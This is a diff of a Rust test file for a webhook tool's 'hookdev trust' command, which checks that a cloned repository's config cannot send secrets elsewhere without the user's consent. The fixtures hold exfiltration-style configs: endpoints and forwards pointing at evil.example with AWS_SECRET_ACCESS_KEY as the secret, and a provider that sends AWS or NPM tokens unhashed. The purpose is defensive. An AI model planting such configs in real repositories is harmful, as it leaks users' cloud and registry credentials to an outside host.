@@ -1,217 +1,256 @@
-//! How far a delivery is trusted: verified, verified with the public development secret, or unsigned by design.
+//! `hookdev trust`: what a config that was found may do only with the user's consent.
 
-use serde_json::{Value, json};
+use crate::harness::{Dir, TestCommand};
 
-use crate::harness::{
-    AUPHONIC, CYANITE, CYANITE_HEADERS, Dir, Endpoint, Listener, NO_SECRETS, TestCommand, answer, capture,
-    development_warning, text,
-};
+const HINT: &str = "hint: read the config first, or ignore it with --no-config\n";
+const TRUSTED: &str = "note: trusted with its present content; after a change, run `hookdev trust` again\n";
 
-mod reports;
+/// A provider that sends its secret as it is.
+const TOKEN_MANIFEST: &str = r#"name = "evil"
+title = "Evil"
+about = "A test"
 
-const TEST: &str = r#"{"type":"TEST","data":null}"#;
+[secret]
+env = "AWS_SECRET_ACCESS_KEY"
+development = "evil-development"
 
-/// Go's `encoding/json` reads this as another event than the one that Cyanite sends unsigned.
-const AMBIGUOUS: &str = r#"{"type":"TEST","data":null,"Type":"IN_DEPTH_ANALYSIS_FINISHED"}"#;
+[[scheme]]
+name = "token"
+algorithm = "token"
+content = "{body}"
+signature = { header = "x-t", value = "{token}" }
 
-const FORM: [(&str, &str); 1] = [("content-type", "application/x-www-form-urlencoded")];
+[delivery]
+success = ["2xx"]
 
-/// What `listen` says where the development secrets are not accepted.
-const REJECTED: &str = "warning: no secret of your own is set for aspect, cyanite, jewelmusic, so their signed deliveries are rejected; \
-     pass yours with --secret PROVIDER=SOURCE, or accept the public development secret with --allow-development\n";
+[[event]]
+name = "made"
+about = "Something was made"
+match = { type = "made" }
+"#;
 
-/// A listener that forwards to an endpoint.
-fn forwarding(dir: &Dir, endpoint: &Endpoint, options: &[&str]) -> Listener {
-    dir.listen().args(["--forward", &endpoint.url("/")]).args(options).starts()
+fn path(dir: &Dir) -> String {
+    dir.join("hookdev.toml").display().to_string()
 }
 
-/// Checks that a delivery signed with the development secret is rejected, and why.
-#[track_caller]
-fn rejects_development(listener: &mut Listener, url: &str) {
-    let response = crate::harness::post(url, &CYANITE_HEADERS, CYANITE);
-    let delivery = listener.next();
-    assert_eq!((response.status(), response.text()), (401, "rejected\n"));
-    assert_eq!((text(&delivery, "/verdict"), &delivery["secret"]), ("rejected", &Value::Null));
-    assert_eq!(
-        delivery["rejection"],
-        json!({
-            "code": "no-matching-signature",
-            "message": "the signature matches only the public development secret, with which anyone can sign",
-        })
+/// A cloned repository whose config has secrets sent to another machine.
+fn repository() -> Dir {
+    let dir = Dir::new();
+    dir.write(
+        "hookdev.toml",
+        "[provider.cyanite]\nendpoint = \"https://evil.example/x?token=1\"\nsecret = \"env:AWS_SECRET_ACCESS_KEY\"\n",
     );
-    assert_eq!(
-        delivery["findings"],
-        json!([{
-            "code": "secret-development",
-            "message": "only the public development secret was tried",
-            "hint": "set CYANITE_WEBHOOK_SECRET or add --secret cyanite=… to use Cyanite's own secret",
-        }])
+    dir
+}
+
+/// A cloned repository with a provider that sends its secret as it is.
+fn repository_with_token() -> Dir {
+    let dir = Dir::new();
+    dir.write("providers/evil/provider.toml", TOKEN_MANIFEST);
+    dir.write("providers/evil/events/made.json", r#"{ "type": "made" }"#);
+    dir.write("hookdev.toml", "providers = [\"providers\"]\n");
+    dir
+}
+
+fn print(dir: &Dir, event: &str) -> TestCommand {
+    dir.hookdev().args(["send", event, "-q", "--print", "json"]).env("AWS_SECRET_ACCESS_KEY", "topsecret")
+}
+
+#[test]
+fn deliveries_with_a_secret_go_elsewhere_only_with_trust() {
+    let dir = repository();
+    let config = path(&dir);
+    let named = format!("config: {config}\n");
+    let refusal = format!(
+        "error: the config {config} sends Cyanite deliveries, signed with env:AWS_SECRET_ACCESS_KEY, \
+         to https://evil.example/x?token=[redacted]; run `hookdev trust` to allow it\n{HINT}"
     );
-    assert_eq!((&delivery["warnings"], &delivery["forwards"]), (&json!([]), &json!([])));
+    print(&dir, "cyanite.v2.finished").exits(2).stdout("").stderr(&format!("{named}{refusal}"));
+    let check = dir.hookdev().args(["check", "-q"]).env("AWS_SECRET_ACCESS_KEY", "topsecret");
+    check.exits(2).stdout("").stderr(&format!("{named}{refusal}"));
+
+    // What needs none: another destination, and the same config by name.
+    print(&dir, "cyanite.v2.finished").args(["--to", "http://127.0.0.1:1/"]).exits(0).stderr(&named);
+    print(&dir, "cyanite.v2.finished").args(["--config", "hookdev.toml"]).exits(0).stderr("");
+    print(&dir, "cyanite.v2.finished").arg("--no-config").exits(0).stderr("");
+
+    dir.hookdev().arg("trust").exits(0).stderr(TRUSTED).stdout(&format!(
+        "{config}\n  \
+         sends cyanite deliveries to https://evil.example/x?token=[redacted]\n  \
+         takes the secret of cyanite from env:AWS_SECRET_ACCESS_KEY\n"
+    ));
+    print(&dir, "cyanite.v2.finished").exits(0).stderr(&named);
+
+    let before = dir.read("hookdev.toml");
+    dir.write("hookdev.toml", format!("{before}# changed\n"));
+    print(&dir, "cyanite.v2.finished").exits(2).stdout("").stderr(&format!("{named}{refusal}"));
+    dir.write("hookdev.toml", before);
+    print(&dir, "cyanite.v2.finished").exits(0).stderr(&named);
 }
 
 #[test]
-fn only_verified_rejects_the_development_secret_and_says_so() {
-    let (dir, endpoint) = (Dir::new(), Endpoint::new([answer(202)]));
-    for quiet in [&[][..], &["--quiet"]] {
-        let mut listener = forwarding(&dir, &endpoint, &[&["--only-verified"], quiet].concat());
-        let url = listener.url("/cyanite");
-        rejects_development(&mut listener, &url);
-        endpoint.got_no_more();
-        assert_eq!(listener.killed().stderr, REJECTED);
-    }
-}
-
-#[test]
-fn beyond_this_machine_the_development_secret_is_rejected() {
+fn what_is_public_goes_elsewhere_without_trust() {
     let dir = Dir::new();
-    let listen = |options: &[&str]| {
-        let command = dir.hookdev().args(["listen", "--addr", "0.0.0.0:0", "--format", "json", "--quiet"]);
-        command.args(options).starts()
-    };
-    let mut listener = listen(&[]);
-    let url = listener.url("/cyanite").replace("0.0.0.0", "127.0.0.1");
-    rejects_development(&mut listener, &url);
-    listener.says(REJECTED);
-    let mut listener = listen(&["--allow-development", "--expect", "cyanite.v2.finished"]);
-    listener.says(NO_SECRETS);
-    let url = listener.url("/cyanite").replace("0.0.0.0", "127.0.0.1");
-    assert_eq!(crate::harness::post(&url, &CYANITE_HEADERS, CYANITE).status(), 200);
-    listener.exits(0);
-}
-
-#[test]
-fn allow_development_accepts_it_with_a_warning() {
-    let (dir, endpoint) = (Dir::new(), Endpoint::new([answer(202)]));
-    let mut listener = forwarding(&dir, &endpoint, &["--only-verified", "--allow-development", "--quiet"]);
-    assert_eq!(crate::harness::post(&listener.url("/cyanite"), &CYANITE_HEADERS, CYANITE).status(), 202);
-    assert_eq!(endpoint.next().text(), CYANITE);
-    listener.says(NO_SECRETS);
-}
-
-#[test]
-fn only_verified_forwards_no_unsigned_delivery() {
-    let (dir, endpoint) = (Dir::new(), Endpoint::new([answer(202)]));
-    let mut listener = forwarding(&dir, &endpoint, &["--only-verified", "--secret", "cyanite=mine"]);
-    for (path, headers, body) in [("/cyanite", &[][..], TEST), ("/auphonic", &FORM, AUPHONIC)] {
-        let (response, delivery) = listener.receives(path, headers, body);
-        assert_eq!((response.status(), text(&delivery, "/verdict")), (200, "unsigned"));
-        assert_eq!(delivery["warnings"], json!(["not forwarded: it is unsigned; --allow-unsigned forwards it"]));
+    let endpoint = "endpoint = \"https://staging.example/hooks\"\n";
+    dir.write("hookdev.toml", format!("[provider.cyanite]\n{endpoint}[provider.auphonic]\n{endpoint}"));
+    let named = format!("config: {}\n", path(&dir));
+    for event in ["cyanite.v2.finished", "auphonic.done"] {
+        print(&dir, event).exits(0).stderr(&named);
     }
-    endpoint.got_no_more();
+    print(&dir, "cyanite.v2.finished").env("CYANITE_WEBHOOK_SECRET", "mine").exits(2).says(HINT);
 }
 
 #[test]
-fn allow_unsigned_forwards_only_what_is_exactly_as_documented() {
-    let (dir, endpoint) = (Dir::new(), Endpoint::new([answer(200)]));
-    let options = ["--only-verified", "--allow-unsigned", "--secret", "cyanite=mine"];
-    let mut listener = forwarding(&dir, &endpoint, &options);
-    for (path, headers, body) in [("/cyanite", &[][..], TEST), ("/auphonic", &FORM, AUPHONIC)] {
-        let (response, delivery) = listener.receives(path, headers, body);
-        assert_eq!((response.status(), &delivery["warnings"]), (200, &json!([])), "{delivery}");
-        assert_eq!(endpoint.next().text(), body);
-    }
-    for (change, reason) in [
-        ("&status=2", "/status is repeated"),
-        ("&Status=2", "/Status differs from `status` only in case"),
-        ("&admin=1", "/admin is not in the schema"),
-    ] {
-        let (response, delivery) = listener.receives("/auphonic", &FORM, format!("{AUPHONIC}{change}"));
-        let warning = format!("not forwarded: it is unsigned, and not exactly as documented: {reason}");
-        assert_eq!((response.status(), text(&delivery, "/verdict")), (200, "unsigned"));
-        assert_eq!((&delivery["warnings"], &delivery["forwards"]), (&json!([warning]), &json!([])), "{change}");
-    }
-    let invalid = AUPHONIC.replace("Done", "Success");
-    let (_, delivery) = listener.receives("/auphonic", &FORM, invalid);
-    assert_eq!((text(&delivery, "/payload/status"), &delivery["forwards"]), ("invalid", &json!([])));
-    endpoint.got_no_more();
-}
-
-#[test]
-fn beside_a_secret_an_unsigned_event_is_rejected_unless_it_is_exactly_as_documented() {
-    let (dir, endpoint) = (Dir::new(), Endpoint::new([answer(202)]));
-    for options in [&["--only-verified", "--allow-unsigned"][..], &[]] {
-        let options = [&["--secret", "cyanite=mine", "--expect", "cyanite.v1.test", "--timeout", "60s"], options];
-        let mut listener = forwarding(&dir, &endpoint, &options.concat());
-        let (_, delivery) = listener.receives("/cyanite", &[("content-type", "text/plain")], AMBIGUOUS);
-        assert_eq!(text(&delivery, "/verdict"), "rejected");
-        assert_eq!(delivery["rejection"], json!({"code": "missing-header", "message": "missing header `signature`"}));
-        let warning =
-            "Cyanite sends this event unsigned, but never with this payload: /Type differs from `type` only in case";
-        assert_eq!(delivery["warnings"], json!([warning]));
-        // It is not counted: the expectation is met by the next one.
-        let (_, delivery) = listener.receives("/cyanite", &[], TEST);
-        assert_eq!((&delivery["seq"], text(&delivery, "/verdict")), (&json!(2), "unsigned"));
-        listener.exits(0);
-    }
-    assert_eq!(endpoint.next().text(), TEST);
-    // Without --only-verified, everything is forwarded.
-    assert_eq!((endpoint.next().text(), endpoint.next().text()), (AMBIGUOUS, TEST));
-}
-
-#[test]
-fn the_development_secret_counts_where_it_is_accepted() {
+fn captured_requests_go_elsewhere_only_with_trust() {
     let dir = Dir::new();
-    let listen = || dir.listen().args(["--expect", "cyanite.v2.finished", "--count", "1", "--timeout", "3s"]);
-    let mut local = listen().starts();
-    local.receives("/cyanite", &CYANITE_HEADERS, CYANITE);
-    local.exits(0);
-    let mut strict = listen().arg("--only-verified").starts();
-    strict.receives("/cyanite", &CYANITE_HEADERS, CYANITE);
-    let missing = "error: timed out waiting for: cyanite.v2.finished (0 of 1 received), 1 deliveries (0 received)\n";
-    strict.exits(1).says(missing);
+    dir.write("hookdev.toml", "[listen]\naddr = \"evil.example:80\"\n");
+    dir.write("capture.http", "POST /other HTTP/1.1\nauthorization: Bearer x\n\n{}");
+    print(&dir, "capture.http").exits(2).stdout("").stderr(&format!(
+        "config: {0}\nerror: the config {0} sends captured requests to http://evil.example/; run `hookdev trust` to allow it\n{HINT}",
+        path(&dir)
+    ));
+    dir.hookdev().args(["trust", "-q"]).exits(0).stdout("").stderr("");
+    print(&dir, "capture.http").exits(0).stderr(&format!("config: {}\n", path(&dir)));
 }
 
 #[test]
-fn a_secret_of_the_users_that_is_public_is_a_development_secret() {
+fn deliveries_are_forwarded_elsewhere_only_with_trust() {
     let dir = Dir::new();
-    let listen =
-        dir.listen().arg("--only-verified").env("CYANITE_WEBHOOK_SECRET", "hookdev-development-secret-cyanite");
-    let mut listener = listen.starts();
-    let url = listener.url("/cyanite");
-    rejects_development(&mut listener, &url);
-    // Another provider's public secret is as public.
-    let flag = "cyanite=hookdev-development-secret-jewelmusic";
-    let printed = dir.hookdev().args(["send", "cyanite.v2.finished", "--print", "http", "--secret", flag]).exits(0);
-    let verify = || dir.hookdev().args(["verify", "-", "--secret", flag]).stdin(printed.stdout.clone());
-    verify().exits(0).stdout("verified (development)  cyanite.v2.finished  -\n");
-    verify().args(["--require", "signature"]).exits(1);
+    let local = "[[forward]]\nto = \"http://localhost:1/\"\n";
+    // A directory that doesn't exist can't be watched.
+    dir.write(".local/state/hookdev/trust/other", "");
+    dir.write("hookdev.toml", local);
+    let mut listener = dir.listen().starts();
+    let refusal = format!(
+        "error: the config {} forwards aspect.* to https://evil.example/; run `hookdev trust` to allow it\n",
+        path(&dir)
+    );
+    dir.replace("hookdev.toml", "[[forward]]\nevents = \"aspect.*\"\nto = \"https://evil.example/\"\n");
+    listener.says(&format!("{refusal}hint: still using the previous configuration; fix the error and save again\n"));
+    dir.listen().exits(2).stdout("").stderr(&format!("config: {}\n{refusal}{HINT}", path(&dir)));
+    dir.hookdev()
+        .arg("trust")
+        .exits(0)
+        .stdout(&format!("{}\n  forwards aspect.* to https://evil.example/\n", path(&dir)));
+    #[cfg(target_os = "linux")]
+    listener.says(
+        "note: config reloaded\n\
+         note: no longer forwards * to http://localhost:1/\n\
+         note: now forwards aspect.* to https://evil.example/\n",
+    );
+    drop(dir.listen().starts());
+    dir.replace("hookdev.toml", local);
+    listener.says("note: now forwards * to http://localhost:1/\n");
+    dir.replace("hookdev.toml", "[[forward]]\nevents = \"cyanite.*\"\nto = \"http://127.0.0.1:1/\"\n");
+    listener.says(
+        "note: config reloaded\n\
+         note: no longer forwards * to http://localhost:1/\n\
+         note: now forwards cyanite.* to http://127.0.0.1:1/\n",
+    );
 }
 
 #[test]
-fn a_variable_that_is_empty_or_not_text_is_an_error() {
+fn a_provider_that_sends_its_secret_is_added_only_with_trust() {
+    let dir = repository_with_token();
+    let config = path(&dir);
+    let refusal = format!(
+        "error: the config {config} adds the provider Evil, which sends its secret unhashed; run `hookdev trust` to allow it\n{HINT}"
+    );
+    dir.write("capture.http", "POST /evil HTTP/1.1\nx-t: topsecret\n\n{\"type\":\"made\"}");
+    let verify = || dir.hookdev().args(["verify", "capture.http", "-q"]).env("AWS_SECRET_ACCESS_KEY", "topsecret");
+    print(&dir, "evil.made").exits(2).stdout("").stderr(&refusal);
+    verify().exits(2).stdout("").stderr(&refusal);
+    dir.listen().exits(2).stdout("").stderr(&refusal);
+    dir.hookdev().args(["check", "--provider", "evil"]).exits(2).stdout("").stderr(&refusal);
+    // Neither uses a secret.
+    dir.hookdev().args(["events", "evil.*"]).exits(0).stderr("");
+    print(&dir, "evil.made").args(["--no-config", "--providers", "providers"]).exits(0).stderr("");
+
+    dir.hookdev().arg("trust").exits(0).stderr(TRUSTED).stdout(&format!(
+        "{config}\n  adds the provider evil from {}, with the secret in AWS_SECRET_ACCESS_KEY, which it sends unhashed\n",
+        dir.join("providers/evil").display()
+    ));
+    print(&dir, "evil.made").exits(0).stderr(&format!("config: {config}\n")).prints("[\"x-t\",\"topsecret\"]");
+    verify().exits(0).stderr(&format!("config: {config}\n"));
+
+    dir.write("providers/evil/provider.toml", TOKEN_MANIFEST.replace("AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"));
+    print(&dir, "evil.made").exits(2).stdout("").stderr(&refusal);
+}
+
+#[test]
+fn a_provider_that_signs_needs_no_trust() {
+    let dir = repository_with_token();
+    let signs = TOKEN_MANIFEST.replace("\"token\"\ncontent", "\"hmac-sha256\"\ncontent").replace("{token}", "{hex}");
+    dir.write("providers/evil/provider.toml", signs);
+    // Its manifest decides which variable is read, which is said.
+    print(&dir, "evil.made").exits(0).stderr(&format!("config: {}\n", path(&dir)));
+}
+
+#[test]
+fn programs_read_what_is_trusted() {
+    let dir = repository_with_token();
+    let config = "providers = [\"providers\"]\nenv_file = \".env\"\n[[forward]]\nto = \"http://localhost:1/?key=2\"\n\
+                  [provider.cyanite]\nendpoint = \"https://a.example/\"\nsecret = [\"literal\", \"file:secret\"]\n";
+    dir.write("hookdev.toml", config);
+    let trust = || dir.hookdev().args(["trust", "--json"]);
+    let expected = serde_json::json!({
+        "kind": "trust",
+        "config": path(&dir),
+        "endpoints": [{"provider": "cyanite", "url": "https://a.example/"}],
+        "forwards": [{"events": "*", "url": "http://localhost:1/?key=[redacted]"}],
+        "secrets": [{"provider": "cyanite", "sources": ["config", "file:secret"]}],
+        "env_file": dir.join(".env").to_str().unwrap(),
+        "providers": [{
+            "name": "evil",
+            "source": dir.join("providers/evil").to_str().unwrap(),
+            "secret_env": "AWS_SECRET_ACCESS_KEY",
+            "sends_secret": true,
+        }],
+    });
+    assert_eq!(trust().exits(0).line(), expected);
+    dir.write("other/x", "");
+    let from_elsewhere = dir.hookdev().args(["trust", "--json", ".././hookdev.toml"]).inside(&dir.join("other"));
+    assert_eq!(from_elsewhere.exits(0).line(), expected);
+    #[cfg(target_os = "linux")]
+    assert_eq!(dir.names(".local/state/hookdev/trust").len(), 1, "it is the same record");
+}
+
+#[test]
+fn what_cannot_be_trusted_says_why() {
     let dir = Dir::new();
-    dir.write("one.json", capture(&CYANITE_HEADERS, CYANITE).to_string());
-    let hint = "hint: set CYANITE_WEBHOOK_SECRET to the secret that the provider shows, or unset it\n";
-    let commands: [&[&str]; 4] = [
-        &["verify", "one.json"],
-        &["listen", "--addr", "127.0.0.1:0", "--timeout", "1ms"],
-        &["send", "cyanite.v2.finished", "--print", "curl"],
-        &["check", "--provider", "cyanite"],
-    ];
-    let fails = |command: TestCommand, error: &str| {
-        command.exits(2).stdout("").stderr(&format!("error: the environment variable {error}\n{hint}"));
-    };
-    for command in commands {
-        let set = || dir.hookdev().args(command);
-        fails(set().env("CYANITE_WEBHOOK_SECRET", ""), "CYANITE_WEBHOOK_SECRET is empty");
-        #[cfg(unix)]
-        {
-            use std::{ffi::OsStr, os::unix::ffi::OsStrExt};
-            let binary = OsStr::from_bytes(b"secret\xff");
-            let error = "CYANITE_WEBHOOK_SECRET is not text: its value is not UTF-8";
-            fails(set().env("CYANITE_WEBHOOK_SECRET", binary), error);
-        }
-        let named = set().args(["--secret", "cyanite=env:MINE"]).env("MINE", "").exits(2);
-        named.says("error: the environment variable MINE is empty\n");
-    }
-    // A variable of a provider that gets its secret elsewhere is not read.
-    let flag = ["verify", "one.json", "--secret", "cyanite=hookdev-development-secret-cyanite"];
-    dir.hookdev().args(flag).env("CYANITE_WEBHOOK_SECRET", "").exits(0).says(&development_warning(1));
+    let trust = || dir.hookdev().arg("trust");
+    let none = format!(
+        "error: no hookdev.toml in {} or above it\nhint: name one: hookdev trust FILE\n",
+        dir.join("").display().to_string().trim_end_matches('/')
+    );
+    trust().exits(2).stdout("").stderr(&none);
+    dir.write("hookdev.toml", "nonsense\n");
+    trust().exits(2).stdout("").says("hookdev.toml:1:9: ");
+    dir.write("hookdev.toml", "");
+    trust().arg("no-such.toml").exits(2).stdout("").says("error: can't read the config ");
+    trust().env("HOME", "relative").exits(2).says(if cfg!(target_os = "linux") {
+        "error: can't record trust: neither XDG_STATE_HOME nor HOME is an absolute path\n"
+    } else {
+        "error: can't record trust"
+    });
+    dir.write("file", "");
+    trust()
+        .env("XDG_STATE_HOME", dir.join("file"))
+        .env("HOME", dir.join("file"))
+        .exits(2)
+        .says("error: can't record trust in ");
 }
 
+#[cfg(target_os = "linux")]
 #[test]
-fn allow_unsigned_belongs_to_only_verified() {
-    let finished = Dir::new().listen().arg("--allow-unsigned").exits(2).stdout("");
-    finished.says("--only-verified");
+fn only_its_owner_can_read_what_is_trusted() {
+    use std::{fs, os::unix::fs::PermissionsExt};
+
+    let dir = repository();
+    dir.hookdev().arg("trust").env("XDG_STATE_HOME", dir.join("state")).exits(0);
+    let records = dir.names("state/hookdev/trust");
+    assert_eq!(records.len(), 1);
+    let record = dir.join("state/hookdev/trust").join(&records[0]);
+    assert_eq!(fs::metadata(&record).unwrap().permissions().mode() & 0o777, 0o600);
+    assert_eq!(fs::read_to_string(record).unwrap(), format!("{}\n", path(&dir)));
 }
